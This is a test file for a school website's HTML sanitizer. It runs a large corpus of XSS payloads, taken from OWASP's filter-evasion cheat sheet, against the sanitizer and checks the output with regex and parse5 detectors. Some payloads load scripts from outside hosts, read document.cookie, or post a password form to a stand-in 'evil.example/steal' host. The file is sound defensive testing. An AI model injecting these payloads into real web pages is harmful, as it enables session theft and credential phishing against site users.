import { describe, expect, test } from 'bun:test'
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5'
import { allowedFrameSrc, richTextToPlain, sanitizeRichText } from '../../src/platform/richtext.ts'

// The rich-text sanitizer against a corpus of XSS payloads (OWASP's XSS Filter Evasion Cheat Sheet
// and mutation-XSS classics). Each output is checked twice: by strict regular expressions over the
// markup, and by parsing it with parse5 (the HTML5 algorithm browsers use, independent of the
// sanitizer's own htmlparser2) and walking every element and attribute.

const CONFIG = { frameHosts: ['https://www.youtube.com', 'https://docs.google.com'], baseUrl: 'https://ion.school.example' }
const clean = (html: string) => sanitizeRichText(html, CONFIG)

const SVG_B64 = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4='
const CORPUS: string[] = [
  // script tags
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  // event handlers
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror="alert(1)"></video>`,
  `<p onclick="alert(1)" ONMOUSEOVER='alert(2)'>hi</p>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  // javascript:, data:, vbscript: URLs, plain and obfuscated
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<a href="java\u0000script:alert(1)">null byte</a>`,
  `<a href="javascript&colon;alert(1)">colon entity</a>`,
  `<a href="&#x6A;avascript:alert(1)">hex entity</a>`,
  `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#39&#88&#83&#83&#39&#41">decimal entities</a>`,
  `<a href=" javascript:alert(1)">leading space</a>`,
  `<a href="&#1;javascript:alert(1)">control char</a>`,
  `<a href="JAVASCRIPT:alert(1)">upper</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<img src="data:image/svg+xml;base64,${SVG_B64}">`,
  `<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<a href="livescript:alert(1)">live</a>`,
  // SVG and MathML
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math href="javascript:alert(1)">CLICKME</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<svg><textarea><img src=x onerror=alert(1)></textarea></svg>`,
  `<EMBED SRC="data:image/svg+xml;base64,${SVG_B64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  // style and expression()
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<div style="background-image: url(javascript:alert('XSS'))">x</div>`,
  `<div style="width: expression(alert('XSS'));">x</div>`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<p style="color:red">styled</p>`,
  // iframes: srcdoc, javascript:, foreign and look-alike hosts, http
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
  `<iframe src="http://www.youtube.com/embed/x"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="<script>alert(1)</script>" sandbox="allow-top-navigation"></iframe>`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  // meta refresh, base, link
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<base href="https://evil.example/">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  // forms, object, embed and other legacy vectors
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<form action="https://evil.example/steal"><input name="password" type="password"></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<object data="javascript:alert(1)"></object>`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  // comments, CDATA, conditional comments
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><script>alert(1)</script></textarea>`,
  // unclosed tags and nested quotes
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<img src="x`,
  `<a href="javascript:alert(1)`,
  `<a href="https://ok.example/" title='" onmouseover="alert(1)'>quotes</a>`,
  `<abbr title="&quot;><script>alert(1)</script>">abbr</abbr>`,
  `<p title="</p><script>alert(1)</script>">x</p>`,
  `<a href='https://ok.example/"onmouseover="alert(1)'>x</a>`,
  `text http://example.com/"onmouseover=alert(1)// and www.example.org/<script>`,
]

const ALLOWED_TAGS = new Set(['a', 'abbr', 'acronym', 'b', 'br', 'blockquote', 'code', 'em', 'hr', 'i', 'li', 'ol', 'strong', 'ul', 'iframe', 'img', 'div', 'p'])
const ALLOWED_ATTRS: Record<string, string[]> = {
  a: ['href', 'title', 'rel'], abbr: ['title'], acronym: ['title'], img: ['src', 'alt', 'title', 'width', 'height'],
  iframe: ['src', 'width', 'height', 'title', 'allowfullscreen', 'sandbox', 'loading', 'referrerpolicy'],
}

/**
 * Strict textual checks over the markup. Text is escaped, so every raw '<' opens a tag; every tag
 * must have the exact shape <name attr="value" …> with double-quoted values (which then cannot
 * hide another attribute); names, then values, are checked.
 */
function regexProblems(out: string): string[] {
  const p: string[] = []
  if (/<(?!\/?(a|abbr|acronym|b|br|blockquote|code|em|hr|i|li|ol|strong|ul|iframe|img|div|p)[\s>/])/i.test(out)) p.push('a tag outside the allowlist')
  for (const t of out.match(/<[^>]*>/g) ?? []) {
    if (!/^<\/?[a-z]+(\s[a-z-]+(="[^"<>]*")?)*\s*\/?>$/.test(t)) {
      p.push(`malformed tag ${t}`)
      continue
    }
    for (const [, name, value = ''] of t.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g)) {
      if (/^on/i.test(name!)) p.push(`event handler ${name} in ${t}`)
      if (/^(style|srcdoc|formaction|action|background|dynsrc|lowsrc|class|id|name|xmlns|data-.*)$/i.test(name!)) p.push(`forbidden attribute ${name} in ${t}`)
      const v = value.replace(/&amp;/g, '&')
      if (/^\s*(java|vb|live)script\s*:/i.test(v) || /[\u0000-\u001f]/.test(v) || /&#|&colon;/i.test(v)) p.push(`script URL or encoded scheme in ${t}`)
      if (/^\s*data:/i.test(v) && !/^data:image\/(png|gif|jpeg|webp);base64,[A-Za-z0-9+/=]+$/.test(v)) p.push(`data URL in ${t}`)
      if (/expression\s*\(/i.test(v)) p.push(`expression() in ${t}`)
    }
  }
  return p
}

type Node = DefaultTreeAdapterMap['node']
type Element = DefaultTreeAdapterMap['element']

/** Parses the output as a browser would and walks every element. */
function parsedProblems(out: string): string[] {
  const p: string[] = []
  const walk = (n: Node) => {
    if ('tagName' in n) {
      const el = n as Element
      if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') p.push(`foreign element ${el.tagName}`)
      if (!ALLOWED_TAGS.has(el.tagName)) p.push(`disallowed tag ${el.tagName}`)
      for (const a of el.attrs) {
        if (/^on/i.test(a.name)) p.push(`event attribute ${a.name}`)
        if (!(ALLOWED_ATTRS[el.tagName] ?? []).includes(a.name)) p.push(`attribute ${a.name} on ${el.tagName}`)
        if (a.name === 'href' || a.name === 'src') {
          const u = new URL(a.value, 'https://ion.school.example/x/')
          const ok = el.tagName === 'a' ? ['http:', 'https:', 'mailto:'].includes(u.protocol)
            : el.tagName === 'img' ? u.protocol === 'https:' && u.origin === 'https://ion.school.example' || /^data:image\/(png|gif|jpeg|webp);base64,/i.test(a.value)
              : allowedFrameSrc(a.value, CONFIG.frameHosts)
          if (!ok) p.push(`${a.name}=${a.value} on ${el.tagName}`)
        }
      }
      if (el.tagName === 'a' && el.attrs.some((a) => a.name === 'href') && el.attrs.find((a) => a.name === 'rel')?.value !== 'noopener noreferrer nofollow') p.push('link without rel')
      if (el.tagName === 'iframe' && !el.attrs.some((a) => a.name === 'sandbox')) p.push('iframe without sandbox')
    }
    if ('childNodes' in n) for (const c of (n as { childNodes: Node[] }).childNodes) walk(c)
    if ('content' in n && n.content) walk(n.content as Node)
  }
  walk(parseFragment(out) as unknown as Node)
  return p
}

describe('the XSS corpus', () => {
  test(`has at least 40 payloads (${CORPUS.length})`, () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(40)
  })
  for (const [i, payload] of CORPUS.entries()) {
    test(`#${i + 1} ${payload.slice(0, 70)}`, () => {
      const out = clean(payload)
      expect({ payload, out, problems: regexProblems(out) }).toEqual({ payload, out, problems: [] })
      expect({ payload, out, problems: parsedProblems(out) }).toEqual({ payload, out, problems: [] })
      // Stored output is a fixed point: sanitizing it again changes nothing.
      expect(clean(out)).toBe(out)
    })
  }
  test('the checks themselves catch what they look for', () => {
    expect(regexProblems('<img src=x onerror=alert(1)>')).not.toEqual([])
    expect(regexProblems('<a href="javascript:alert(1)">x</a>')).not.toEqual([])
    expect(parsedProblems('<svg><a href="javascript:x">y</a></svg>')).not.toEqual([])
    expect(parsedProblems('<p style="x">y</p>')).not.toEqual([])
    expect(parsedProblems('<iframe src="https://evil.example/"></iframe>')).not.toEqual([])
  })
})

describe('what the allowlist keeps', () => {
  test("Ion's formatting tags survive without attributes", () => {
    const html = '<p>One <b>two</b> <strong>three</strong> <i>four</i> <em>five</em> <code>six</code></p><blockquote>q</blockquote><ul><li>a</li></ul><ol><li>b</li></ol><hr><div>d<br>e</div><abbr title="Parent Teacher Association">PTA</abbr> <acronym title="x">X</acronym>'
    expect(clean(html)).toBe('<p>One <b>two</b> <strong>three</strong> <i>four</i> <em>five</em> <code>six</code></p><blockquote>q</blockquote><ul><li>a</li></ul><ol><li>b</li></ol><hr /><div>d<br />e</div><abbr title="Parent Teacher Association">PTA</abbr> <acronym title="x">X</acronym>')
  })

  test('links keep http(s), mailto and local paths and get rel; bare URLs become links', () => {
    expect(clean('<a href="https://example.com/a?b=1&c=2" target="_blank">x</a>')).toBe('<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">x</a>')
    expect(clean('<a href="mailto:office@school.example">mail</a>')).toBe('<a href="mailto:office@school.example" rel="noopener noreferrer nofollow">mail</a>')
    expect(clean('<a href="/eighth/signup">sign up</a>')).toBe('<a href="/eighth/signup" rel="noopener noreferrer nofollow">sign up</a>')
    expect(clean('<a href="//evil.example/x">off-site</a>')).toBe('off-site')
    expect(clean('<p>See https://school.example/news, or www.example.org.</p>')).toBe(
      '<p>See <a href="https://school.example/news" rel="noopener noreferrer nofollow">https://school.example/news</a>, or <a href="https://www.example.org" rel="noopener noreferrer nofollow">www.example.org</a>.</p>')
    // a URL already inside a link is not linked twice
    expect(clean('<a href="https://a.example/">https://b.example/</a>')).toBe('<a href="https://a.example/" rel="noopener noreferrer nofollow">https://b.example/</a>')
  })

  test('images: this site and raster data: URIs stay; external ones become links (the CSP would block them)', () => {
    expect(clean('<img src="/public/logo.png" alt="Logo" width="100" height="x">')).toBe('<img alt="Logo" width="100" src="/public/logo.png" />')
    expect(clean('<img src="https://ion.school.example/public/a.png">')).toBe('<img alt="" src="/public/a.png" />')
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">')).toBe('<img alt="dot" src="data:image/png;base64,iVBORw0KGgo=" />')
    expect(clean('<img src="https://cdn.example/cat.jpg" alt="A cat">')).toBe('<a href="https://cdn.example/cat.jpg" rel="noopener noreferrer nofollow">Image: A cat</a>')
  })

  test('iframes only from FRAME_HOSTS, sandboxed; none at all without FRAME_HOSTS', () => {
    expect(clean('<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen></iframe>')).toBe(
      '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen="" sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" loading="lazy" referrerpolicy="no-referrer"></iframe>')
    expect(sanitizeRichText('<iframe src="https://www.youtube.com/embed/abc"></iframe><p>x</p>', { frameHosts: [], baseUrl: CONFIG.baseUrl })).toBe('<p>x</p>')
  })
})

describe('plain text for emails', () => {
  test('paragraphs, line breaks, lists, links with their address, entities decoded', () => {
    const html = clean('<p>Snow day &amp; <b>no</b> school.</p><p>Line one<br>line two</p><ul><li>Bring a coat</li><li>See <a href="https://x.example/a">the page</a></li></ul><p>Mail <a href="mailto:o@s.example">o@s.example</a> or <a href="/news">news</a>.</p>')
    expect(richTextToPlain(html, 'https://ion.school.example')).toBe(
      'Snow day & no school.\n\nLine one\nline two\n\n- Bring a coat\n- See the page (https://x.example/a)\n\nMail o@s.example or news (https://ion.school.example/news).')
  })
})
